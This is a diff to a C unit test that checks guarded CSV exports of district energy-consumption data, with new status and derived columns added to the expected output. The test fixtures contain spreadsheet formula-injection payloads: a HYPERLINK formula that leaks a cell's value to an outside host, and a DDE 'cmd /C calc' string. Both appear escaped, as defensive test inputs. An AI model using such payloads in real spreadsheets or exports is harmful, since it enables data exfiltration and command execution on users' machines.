@@ -125,12 +125,12 @@ test_downloads_guarded(void **state)
 	       &r);
 	assert_string_equal(
 	    r.body,
-	    "year,code,name,tax_code,unit,sector,toe_total,incomplete,carrier,quantity,"
-	    "native_unit,carrier_toe\n"
+	    "year,code,name,tax_code,unit,sector,toe_total,incomplete,status,derived_only,"
+	    "carrier,quantity,native_unit,carrier_toe,carrier_toe_derived\n"
 	    "2023,F2,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,Huyện B,10,1543.000,0,"
-	    "electricity,10000000.000,kWh,1543.000\n"
-	    "2023,F3,'+cmd|' /C calc'!A0,,Huyện A,10,1080.100,0,electricity,7000000.000,kWh,"
-	    "1080.100\n");
+	    "key_user,0,electricity,10000000.000,kWh,1543.000,0\n"
+	    "2023,F3,'+cmd|' /C calc'!A0,,Huyện A,10,1080.100,0,key_user,0,electricity,"
+	    "7000000.000,kWh,1080.100,0\n");
 	hc_response_free(&r);
 
 	/* The directory's workbook: a string cell, and no formula anywhere. */
